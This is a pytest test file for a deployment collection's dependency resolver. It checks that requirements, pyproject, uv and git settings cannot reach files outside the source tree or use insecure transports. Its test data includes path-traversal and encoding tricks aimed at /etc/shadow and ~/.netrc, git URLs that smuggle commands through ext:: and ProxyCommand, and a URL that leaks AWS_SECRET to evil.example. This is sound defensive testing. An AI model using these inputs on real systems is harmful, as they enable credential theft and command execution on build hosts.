"""The declarations in a source tree cannot make uv or pip read files outside the tree, or contact servers without authentication."""

from __future__ import annotations

import subprocess

import pytest
from ansible_collections.asgi.deploy.plugins.plugin_utils._release.declarations import Refused, check_requirement
from ansible_collections.asgi.deploy.plugins.plugin_utils._release.origins import Origins
from ansible_collections.asgi.deploy.plugins.plugin_utils._release.source import Resolved, resolve
from ansible_collections.asgi.deploy.plugins.plugin_utils._release.source_error import SourceError

LOCK = '[[package]]\nname = "x"\nsource = {{ virtual = "." }}\ndependencies = [{{ name = "y" }}]\n{}'
PROJECT = '[project]\nname = "x"\nversion = "1"\n'


@pytest.fixture
def read(tmp_path):
    """Return a function that resolves a tree with the given files; content that starts with -> is the target of a symlink."""

    def of(files):
        tree = tmp_path / "tree"
        (tree / "requirements").mkdir(parents=True)
        (tree / "main.py").touch()
        for name, content in files.items():
            (tree / name).parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                (tree / name).write_bytes(content)
            elif content.startswith("->"):
                (tree / name).symlink_to(content[2:])
            else:
                (tree / name).write_text(content)
        return resolve({"path": str(tree)}, [], tmp_path / "run")

    return of


def requirements(text, **files):
    return {"requirements.txt": text, **files}


OUTSIDE = {
    "another user's file": requirements("-r ~/.netrc"),
    "an absolute path": requirements("-r /etc/asgi/env"),
    "the long option": requirements("--requirement=/etc/shadow"),
    "the short option without a space": requirements("-r/etc/shadow"),
    "an abbreviated option": requirements("--requ /etc/shadow"),
    "a constraint": requirements("-c ../../etc/passwd"),
    "a path that leaves and returns": requirements("-r ../tree/requirements/../../x.txt"),
    "an included file's include": requirements("-r requirements/base.txt")
    | {"requirements/base.txt": "-r ../../x.txt"},
    "a constraint's include": requirements("-c requirements/c.txt") | {"requirements/c.txt": "--constraint /x"},
    "behind a link": requirements("-r deep/here.txt")
    | {"deep/here.txt": "->../requirements/there.txt", "requirements/there.txt": "-r ../../x"},
    "a URL": requirements("-r https://example.org/requirements.txt"),
    "a file URL": requirements("-r file:///etc/shadow"),
    "an encoded path": requirements("-r %2e%2e/%2e%2e/etc/shadow"),
    "a variable": requirements("-r ${HOME}/.netrc"),
    "a continued line": requirements("-r \\\n/etc/shadow"),
    "a comment that only one parser continues": requirements("six # \\\n-r /etc/shadow"),
    "a line break that only pip recognises": requirements("six\x0b-r /etc/shadow"),
    "a path in quotes": requirements('-r "x"/../../../../etc/shadow'),
    "another word": requirements("-r x /etc/shadow"),
    "an encoding": requirements(b"# coding: utf-7\n+AC0-r /etc/shadow\n"),
    "UTF-16": requirements("-r /etc/shadow".encode("utf-16")),
    "behind a requirement": requirements("six -r /etc/shadow"),
    "an editable parent": requirements("-e ../.."),
    "an editable parent of a nested file": requirements("-r requirements/a.txt") | {"requirements/a.txt": "-e ../.."},
    "a local path": requirements("../other"),
    "a local path like a name": requirements("six/../../other"),
    "a directory of wheels": requirements("--find-links /\nsix"),
    "a named file": requirements("six @ file:///root/six.whl"),
    "a named path": requirements("six @ ../../six.whl"),
    "an encoded file URL": requirements("six @ file:%2e%2e/%2e%2e/six.whl"),
    "a repository of the host": requirements("git+file:///srv/other/repository"),
    "an index in a directory": requirements("--index-url=/srv"),
    "an option of git": requirements("git+https://git.example/x.git@--upload-pack=touch"),
    "an option that neither tool supports": requirements("--proxy http://x"),
    "a project's dependency": {"pyproject.toml": PROJECT + 'dependencies = ["y @ file:///root/y.whl"]\n'},
    "uv's links": {"pyproject.toml": PROJECT + '[tool.uv]\nfind-links = ["/root"]\n'},
    "uv's target": requirements("") | {"uv.toml": '[pip]\ntarget = "/usr/lib/python3"\n'},
    "uv's sources": {
        "setup.py": "",
        "pyproject.toml": PROJECT + 'dependencies = ["y"]\n[tool.uv.sources]\ny = {path = "../../root"}\n',
    },
    "a lock": {
        "pyproject.toml": PROJECT,
        "uv.lock": LOCK.format('[[package]]\nname = "y"\nsource = { directory = "../y" }\n'),
    },
    "a lock with escapes": {
        "pyproject.toml": PROJECT,
        "uv.lock": LOCK.format('[[package]]\nname = "y"\nsource = { "p\\u0061th" = "\\u002e./y" }\n'),
    },
}


@pytest.mark.parametrize("files", OUTSIDE.values(), ids=OUTSIDE)
def test_references_outside_the_tree_are_rejected(read, files):
    with pytest.raises(SourceError) as caught:
        read(files)
    assert caught.value.variable == "asgi_app_source.path"


INSIDE = {
    "includes": requirements("-r requirements/production.txt\n# -r /etc/shadow\n")
    | {"requirements/production.txt": "-r base.txt\n-c ../constraints.txt\n", "requirements/base.txt": "idna\n"},
    "a cycle": requirements("-r requirements.txt\n-r ./requirements.txt\n-r requirements/../requirements.txt\n"),
    "hashes": requirements("idna==3.10 \\\n    --hash=sha256:12f6 \\\n    --hash=sha256:946d\n    # via x\n"),
    "a link": requirements("", **{"requirements/base.txt": "idna"}) | {"more.txt": "->requirements/base.txt"},
    "options": requirements(
        "--index-url https://pypi.example.org/simple\n--no-binary=:all: --pre\n-f ./wheels\n-e .\n./lib\n"
    ),
    "requirements": requirements(
        "uvicorn[standard]>=0.3 ; python_version > '3'\nx @ https://a.example/x.whl ; os_name == 'posix'\n"
        "git+ssh://git@git.example/x.git@v1#egg=x\n-e git+https://git.example/x@main\nFoo (>=1)\n"
    ),
    "the root": {"setup.py": "", "pyproject.toml": PROJECT + '[tool.uv.sources]\ny = {path = "lib/y"}\n'},
    "the homepage": {"setup.py": "", "pyproject.toml": PROJECT + '[project.urls]\nhome = "http://example.org"\n'},
    "a sibling for development": {
        "pyproject.toml": PROJECT + '[tool.uv.sources]\nz = {path = "../z"}\n',
        "uv.lock": LOCK.format(
            '[package.dev-dependencies]\ndev = [{ name = "z" }]\n'
            '[[package]]\nname = "y"\nsource = { registry = "https://pypi.example.org/simple" }\n'
            '[[package]]\nname = "z"\nsource = { editable = "../z" }\n'
        ),
    },
}


@pytest.mark.parametrize("files", INSIDE.values(), ids=INSIDE)
def test_references_inside_the_tree_are_accepted(read, files):
    found = read(files)
    assert (found.insecure, found.expanded) == ([], [])


INSECURE = {
    "an index": requirements("--index-url http://user:secret@index.example/simple"),
    "another index": requirements("six\n--extra-index-url=http://index.example/simple"),
    "the loopback address": requirements("-i http://127.0.0.1:3141/root/pypi"),
    "links": requirements("-f http://index.example"),
    "a trusted host": requirements("--trusted-host index.example"),
    "a repository": requirements("git+http://git.example/x.git"),
    "git's protocol": requirements("-e git+git://git.example/x.git#egg=x"),
    "a direct URL": requirements("six @ http://a.example/six.whl"),
    "a nested file": requirements("-r requirements/a.txt") | {"requirements/a.txt": "six @ HTTP://a.example/six.whl"},
    "uv's index": {"pyproject.toml": PROJECT + '[[tool.uv.index]]\nurl = "http://index.example"\n'},
    "uv's trust": {"pyproject.toml": PROJECT + '[tool.uv]\nallow-insecure-host = ["index.example"]\n'},
    "uv's sources": {
        "setup.py": "",
        "pyproject.toml": PROJECT + '[tool.uv.sources]\ny = {git = "http://git.example/y"}\n',
    },
    "uv's file": requirements("") | {"uv.toml": 'extra-index-url = ["http://index.example"]\n'},
    "a build requirement": {"pyproject.toml": '[build-system]\nrequires = ["flit @ http://a.example/flit.whl"]\n'},
    "a lock": {
        "pyproject.toml": PROJECT,
        "uv.lock": LOCK.format('[[package]]\nname = "y"\nsource = { registry = "http://index.example/simple" }\n'),
    },
}


def origins(requirements=(), index=None, environment=None, insecure=False):
    return Origins({"asgi_app_requirements": requirements}, index, environment or {}, insecure)


@pytest.mark.parametrize("files", INSECURE.values(), ids=INSECURE)
def test_insecure_transports_of_a_tree_must_be_allowed(read, files):
    source = read(files)
    with pytest.raises(SourceError, match="asgi_app_insecure_transports") as caught:
        origins().check(source)
    assert "secret" not in str(caught.value)
    origins(insecure=True).check(source)


PACKAGE = Resolved("package", "1", "d")


@pytest.mark.parametrize(
    "variables",
    [
        {"index": "http://index.example/simple"},
        {"index": "http://localhost:3141/simple"},
        {"requirements": ["six @ http://a.example/six.whl"]},
        {"requirements": ["x @ git+git://git.example/x"]},
        {"environment": {"UV_INDEX_URL": "http://index.example"}},
        {"environment": {"UV_INDEX": "https://a.example other=http://b.example"}},
        {"environment": {"PIP_FIND_LINKS": "http://index.example"}},
        {"environment": {"PIP_TRUSTED_HOST": "index.example"}},
        {"environment": {"UV_INSECURE_HOST": "index.example"}},
    ],
    ids=str,
)
def test_insecure_transports_of_variables_must_be_allowed(variables):
    with pytest.raises(SourceError, match="asgi_app_insecure_transports"):
        origins(**variables).check(PACKAGE)
    origins(**variables, insecure=True).check(PACKAGE)


def test_proxy_variables_are_not_index_urls():
    origins(environment={"HTTPS_PROXY": "http://proxy.example:3128", "PIP_PROXY": "http://proxy.example"}).check(
        PACKAGE
    )


def test_only_variables_for_the_build_are_expanded(read):
    source = read(requirements("--index-url https://u:${TOKEN}@index.example\nsix"))
    with pytest.raises(SourceError, match=r"TOKEN, not set in asgi_app_build_env"):
        origins().check(source)
    origins(environment={"TOKEN": "x"}).check(source)
    with pytest.raises(SourceError, match="AWS_SECRET"):
        origins(["x @ https://evil.example/${AWS_SECRET}/x.whl"], insecure=True).check(PACKAGE)


@pytest.mark.parametrize("text", ["six -r /etc/shadow", "six --index-url=https://x", "x @ ../x", "six>=1 -e ."])
def test_requirements_of_variables_cannot_be_options(text):
    with pytest.raises(Refused):
        check_requirement(text)


@pytest.mark.parametrize(
    "url",
    [
        "http://git.example/x.git",
        "git://git.example/x.git",
        "ftp://git.example/x.git",
        "http://127.0.0.1:1/x.git",
    ],
)
def test_a_repository_needs_a_secure_transport(tmp_path, monkeypatch, url):
    def run(*_arguments, **_options):
        raise AssertionError("git was started")

    monkeypatch.setattr(subprocess, "run", run)
    with pytest.raises(SourceError, match="asgi_app_insecure_transports") as caught:
        resolve({"git": url, "ref": "main"}, [], tmp_path)
    assert caught.value.variable == "asgi_app_source.git"


@pytest.mark.parametrize(
    "url",
    [
        "ext::sh -c touch% x",
        "fd::17",
        "-oProxyCommand=touch:x",
        "ssh://-oProxyCommand=touch/x",
        "git@-oProxyCommand=touch:x",
        "--upload-pack=touch",
    ],
)
@pytest.mark.parametrize("insecure", [False, True])
def test_addresses_that_start_a_program_are_rejected(tmp_path, monkeypatch, url, insecure):
    def run(*_arguments, **_options):
        raise AssertionError("git was started")

    monkeypatch.setattr(subprocess, "run", run)
    with pytest.raises(SourceError) as caught:
        resolve({"git": url, "ref": "main"}, [], tmp_path, insecure)
    assert caught.value.variable == "asgi_app_source.git"


def test_insteadof_does_not_lead_to_an_insecure_transport(tmp_path, monkeypatch):
    """The operator's git configuration may rewrite a URL, but only to another secure transport."""
    (tmp_path / "gitconfig").write_text('[url "http://127.0.0.1:1/"]\n\tinsteadOf = https://git.example/\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    with pytest.raises(SourceError, match="transport 'http' not allowed"):
        resolve({"git": "https://git.example/x.git", "ref": "main"}, [], tmp_path)


def test_git_variables_of_the_caller_are_ignored(tmp_path, monkeypatch):
    """git sets these variables for hooks, and a hook may start Ansible."""
    monkeypatch.setenv("GIT_INDEX_FILE", str(tmp_path / "no/index"))
    monkeypatch.setenv("GIT_OBJECT_DIRECTORY", str(tmp_path / "objects"))
    monkeypatch.setenv("GIT_ALLOW_PROTOCOL", "ext")
    tree = tmp_path / "repository"
    tree.mkdir()
    clean = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    for command in ("init -q -b main", "add .", "-c user.name=x -c user.email=x@x commit -q -m x"):
        (tree / "main.py").touch()
        subprocess.run(["git", *command.split()], cwd=tree, env=clean, check=True)
    assert resolve({"git": str(tree), "ref": "main"}, [], tmp_path / "run").kind == "git"
    assert not (tmp_path / "objects").exists()
